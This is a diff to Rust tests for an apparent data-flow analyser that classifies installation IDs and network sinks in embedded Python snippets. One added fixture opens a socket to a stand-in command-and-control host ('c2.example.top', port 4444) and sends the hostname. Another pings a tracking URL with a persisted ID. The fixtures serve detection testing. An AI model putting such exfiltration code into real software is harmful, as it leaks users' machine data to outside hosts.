@@ -712,9 +712,13 @@ fn a_generated_id_kept_on_disk_is_an_installation_id() {
         .all(|s| !matches!(s.kind, DataKind::InstallationId | DataKind::GeneratedId)));
     // Kept with json.dump into an open file.
     let fl = one_flow(
-        "import json, uuid, urllib.request\n\
+        "import json, os, uuid, urllib.request\n\
+         ID_FILE = os.path.expanduser('~/.cfg/id.json')\n\
+         def load():\n\
+         \x20   with open(ID_FILE) as fh:\n\
+         \x20       return json.load(fh)['id']\n\
          uid = uuid.uuid4().hex\n\
-         with open('/home/u/.cfg/id.json', 'w') as fh:\n\
+         with open(ID_FILE, 'w') as fh:\n\
          \x20   json.dump({'id': uid}, fh)\n\
          urllib.request.urlopen('https://t.example.top/ping?id=' + uid)\n",
     );
@@ -722,12 +726,32 @@ fn a_generated_id_kept_on_disk_is_an_installation_id() {
     // A product-analytics client's event carries what it is given to the vendor.
     let fl = one_flow(
         "import uuid\nfrom pathlib import Path\nfrom posthog import Posthog\n\
-         uid = str(uuid.uuid4())\n\
-         Path('/home/u/.tool/id').write_text(uid)\n\
+         ID = Path.home() / '.tool' / 'id'\n\
+         uid = ID.read_text() if ID.exists() else str(uuid.uuid4())\n\
+         ID.write_text(uid)\n\
          ph = Posthog(project_api_key='phc_x', host='https://us.i.posthog.com')\n\
          ph.capture('launched', distinct_id=uid)\n",
     );
     assert_eq!(fl.sink_api, "posthog.Posthog().capture");
+    // An id in a report that is never read back is a request id still.
+    no_flow(
+        "import json, uuid, requests\n\
+         req = {'id': str(uuid.uuid4()), 'prompt': 'hi'}\n\
+         with open('/tmp/report.json', 'w') as fh:\n\
+         \x20   json.dump(req, fh)\n\
+         requests.post('https://api.example.com/v1', json=req)\n",
+    );
     assert_eq!(fl.endpoints, vec!["us.i.posthog.com"]);
     assert!(fl.kinds.contains(DataKind::InstallationId));
+}
+
+#[test]
+fn a_handle_opened_by_with_is_the_object_the_call_made() {
+    let fl = one_flow(
+        "import socket\n\
+         with socket.create_connection(('c2.example.top', 4444)) as s:\n\
+         \x20   s.sendall(socket.gethostname().encode())\n",
+    );
+    assert_eq!(fl.sink, SinkKind::Socket);
+    assert_eq!(fl.endpoints, vec!["c2.example.top"]);
 }
